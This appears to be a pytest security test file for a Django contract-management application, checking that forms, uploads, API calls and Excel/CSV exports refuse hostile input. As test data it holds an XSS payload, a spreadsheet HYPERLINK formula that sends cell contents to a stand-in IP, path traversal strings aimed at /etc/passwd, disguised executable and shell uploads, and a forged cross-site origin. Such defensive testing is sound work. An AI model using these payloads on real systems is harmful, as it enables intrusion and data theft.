"""Bad input, over every form, address, operation and export at once: refused clearly, and nothing half done."""

import re
from collections import Counter
from datetime import timedelta
from typing import Any
from urllib.parse import quote

import contract_year
import pytest
from console_cast import LogIn, text
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from forms_cast import WALKERS, Form, addresses, every_form, filled, forms_of
from tokens_cast import made
from walk import OPERATIONS, PAGES
from workbooks import faults, kinds, words

from yunyue.doors.office import Office
from yunyue.doors.sheets import KIND
from yunyue.doors.web import bodies
from yunyue.doors.web.accounts.roles import BUSINESS, Role
from yunyue.doors.web.console.recording import documents
from yunyue.people.duties import recordable

CONTRACT = contract_year.CONTRACT
SCRIPT = "\"'><script>alert(1)</script><img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"x")'
_DUTIES = {kind.type: role for role in sorted(BUSINESS) for kind in recordable(role)}
RECORDS = tuple((role, f"/record/{kind}?contract={CONTRACT}") for kind, role in _DUTIES.items())
"""The form of every kind of fact, with a role whose duty it is."""


def size(office: Office) -> int:
    return office.kernel.journal.head().size


def shown_raw(answer: Any) -> bool:
    """Whether a page holds the script as markup."""
    html = str(answer.get("Content-Type", "")).startswith("text/html")
    return html and any(one in text(answer) for one in ("<script>alert", "<img src=x"))


def test_a_script_in_every_field_of_every_form_is_shown_as_text(own_office: Office, log_in: LogIn) -> None:
    sent = 0
    for client, form in every_form(log_in):
        answer = client.post(form.action, filled(form, lambda _name: SCRIPT), follow=True)
        assert answer.status_code < 500, form.action
        assert not shown_raw(answer), form.action
        sent += 1
    assert sent > 15, "the walk finds the forms"
    walked = {role: log_in(role) for role, _address in addresses()}
    raw = [address for role, address in addresses() if shown_raw(walked[role].get(address))]
    assert raw == [], "what was taken in is shown as text on every page"


def plain(form: Form) -> dict[str, object]:
    """A form as it stands, with 1 where nothing is offered, and a small document."""
    return {
        **{name: value or "1" for name, value in filled(form, form.typed.__getitem__).items()},
        **{name: SimpleUploadedFile("a.pdf", b"%PDF-1.7 a") for name in form.files},
    }


def test_a_form_sent_twice_is_taken_in_once(own_office: Office, log_in: LogIn) -> None:
    """Forms of kinds of facts share one mechanism, whose tickets are tested with recording."""
    twice = []
    for client, form in every_form(log_in):
        client.post(form.action, plain(form))
        once = size(own_office)
        assert client.post(form.action, plain(form)).status_code < 500, form.action
        if size(own_office) != once:
            twice.append(re.sub(r"\d+", "1", form.action.partition("?")[0]))
    # A second reset is an act of its own: it gives another one-time password, and the first is worth nothing.
    assert set(twice) <= {"/accounts/1/reset"}


HOSTILE = (
    (b"<html><script>alert(1)</script></html>", "scan.pdf"),
    (b"MZ\x90\x00 a program", "scan.pdf.exe"),
    (b"", "empty.pdf"),
    (b"%PDF-1.7 " + b"x" * 5000, "large.pdf"),
    (b"#!/bin/sh", "../../../../tmp/yunyue-escaped.pdf"),
)


def test_a_hostile_document_is_refused_by_every_form_that_takes_one(
    own_office: Office, log_in: LogIn, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(documents, "LARGEST", 4096)
    before, sent, clients = size(own_office), 0, {role: log_in(role) for role, _address in RECORDS}
    for role, address in RECORDS:
        for form in forms_of(clients[role], address):
            content, name = HOSTILE[sent % len(HOSTILE)]
            if form.files:
                file = {one: SimpleUploadedFile(name, content, "application/pdf") for one in form.files}
                answer = clients[role].post(form.action, {**plain(form), **file, "step": "record"})
                assert 400 <= answer.status_code < 500, (form.action, name)
                sent += 1
    assert sent > 2 * len(HOSTILE)
    assert size(own_office) == before


@pytest.mark.parametrize("role", [None, Role.CLIENT_MANAGER])
def test_more_than_one_may_send_is_refused_before_it_is_read(
    own_office: Office, log_in: LogIn, role: Role | None
) -> None:
    client, most = (Client(), bodies.OF_STRANGERS) if role is None else (log_in(role), bodies.OF_ACCOUNTS)
    for address in ("/accounts/login", f"/record/payment.made?contract={CONTRACT}", "/api/v1/documents"):
        # Reading the byte that is not there would be an error of the test client.
        answer = client.generic("POST", address, b"x", "multipart/form-data; boundary=b", CONTENT_LENGTH=f"{most + 1}")
        assert answer.status_code == 413, address
        assert "过大" in text(answer)


def test_a_document_larger_than_a_stranger_may_send_is_taken_from_an_account(own_office: Office, log_in: LogIn) -> None:
    _token, secret = made(Role.CLIENT_MANAGER, "proposals:write")
    content = b"%PDF-1.7" + b"x" * bodies.OF_STRANGERS
    for client, given, status in (
        (log_in(Role.CLIENT_MANAGER), "", 201),
        (Client(), f"Bearer {secret}", 201),
        (Client(), "Bearer yyt_invented", 413),
    ):
        headers = {"Authorization": given} if given else {}
        file = SimpleUploadedFile("a.pdf", content)
        assert client.post("/api/v1/documents", {"file": file}, headers=headers).status_code == status


def test_a_form_from_another_site_is_refused_at_every_address(own_office: Office, log_in: LogIn) -> None:
    let_in, clients = [], {role: Client(enforce_csrf_checks=True) for role in WALKERS}
    for role, client in clients.items():
        client.cookies = log_in(role).cookies
    before = size(own_office)
    for role, address in addresses():
        answer = clients[role].post(address, {"form": "x"}, headers={"Origin": "https://evil.example"})
        if answer.status_code not in (403, 405):
            let_in.append((address, answer.status_code))
    assert let_in == []
    assert size(own_office) == before


@pytest.mark.parametrize("trick", ["../../../../etc/passwd", "%00" + "a" * 3000], ids=["upwards", "long"])
def test_tricks_with_paths_reach_nothing(own_office: Office, log_in: LogIn, trick: str) -> None:
    client = log_in(Role.CLIENT_MANAGER)
    operations = [way.address for name, way in OPERATIONS.items() if name.startswith("GET ") and "{" in name]
    every = [*(way.address for way in PAGES.values()), *(f"/api/v1{one}" for one in operations)]
    heads = dict.fromkeys(one.partition("?")[0].rstrip("/").rpartition("/")[0] for one in every)
    for head in heads:
        answer = client.get(f"{head}/{quote(trick, safe='')}")
        assert answer.status_code < 500, head
        assert b"root:" not in getattr(answer, "content", b""), head


def test_no_operation_takes_an_expired_or_revoked_token_or_none(own_office: Office, log_in: LogIn) -> None:
    from django.utils import timezone

    from yunyue.doors.web.accounts.models import Account, Token
    from yunyue.doors.web.accounts.tokens import digest

    holder = Account.objects.create(username="spent", role=Role.CLIENT_MANAGER, password="!")
    now = timezone.now()
    for name, expires, revoked in (("late", now - timedelta(seconds=1), None), ("back", now + timedelta(1), now)):
        made = {"name": name, "digest": digest(f"yyt_{name}"), "scopes": "facts:read", "contract": ""}
        Token.objects.create(account=holder, made_by=holder, expires=expires, revoked=revoked, **made)
    before = size(own_office)
    for name, way in OPERATIONS.items():
        method = name.partition(" ")[0].lower()
        for shown in ("Bearer yyt_late", "Bearer yyt_back", ""):
            headers = {"Authorization": shown} if shown else {}
            call = getattr(Client(headers=headers), method)
            assert call(f"/api/v1{way.address}", content_type="application/json").status_code == 401, (name, shown)
    assert size(own_office) == before


def test_a_request_replayed_at_the_api_is_taken_in_once(own_office: Office, log_in: LogIn) -> None:
    client, address = log_in(Role.CLIENT_MANAGER), f"/api/v1/contracts/{CONTRACT}/proposals"
    body = {"type": "funds.arrived", "time": "2024-10-01T10:00:00+08:00", "data": {"instalment": 3}, "id": "mine-1"}
    approver = log_in(Role.CLIENT_APPROVER)
    first = [one.post(address, body, content_type="application/json").status_code for one in (client, approver)]
    assert 201 in first
    once = size(own_office)
    again = [one.post(address, body, content_type="application/json") for one in (client, approver)]
    assert {one.status_code for one in again} == {422}
    assert size(own_office) == once


def test_in_every_export_a_formula_is_text_a_number_a_number_and_a_day_a_day(own_office: Office, log_in: LogIn) -> None:
    manager = log_in(Role.CLIENT_MANAGER)
    here = f"/api/v1/contracts/{CONTRACT}"
    told = [
        ("tickets", {"severity": 2, "about": FORMULA, "order": "order-1"}),
        ("score-templates", {"template": "t", "pattern": "deductions", "title": FORMULA,
                             "criteria": [{"code": "c", "title": FORMULA, "most": "5"}]}),
        ("proposals", {"type": "rectification.ordered", "time": "2024-10-01T10:00:00+08:00",
                       "data": {"notice": "n1", "about": FORMULA, "deadline": "2024-11-01",
                                "document": "sha256:" + "0" * 64}}),
        ("incidents", {"order": "order-1", "severity": 1, "about": FORMULA}),
    ]  # fmt: skip
    for path, body in told:
        answer = manager.post(f"{here}/{path}", body, content_type="application/json")
        assert answer.status_code == 201, answer.content
    found, files, kept = 0, 0, Counter[str]()
    walked = {role: log_in(role) for role, _address in addresses()}
    for role, address in addresses():
        answer = walked[role].get(f"{address}{'&' if '?' in address else '?'}as=excel")
        if answer.status_code != 200 or answer["Content-Type"] != KIND:
            continue
        files += 1
        assert faults(answer.content) == [], address
        found += sum("HYPERLINK" in one for one in words(answer.content))
        kept += kinds(answer.content)
    assert files > 20
    assert kept["float"] + kept["int"] > 100, "numbers are numbers"
    assert kept["date"] + kept["datetime"] > 50, "days are days"
    assert found >= 3, "the formulas are there, as text"
    csv = manager.get(f"/orders/focus.csv?contract={CONTRACT}").content.decode()
    assert not re.search(r'(^|,)"?[=@+]', csv, re.MULTILINE)
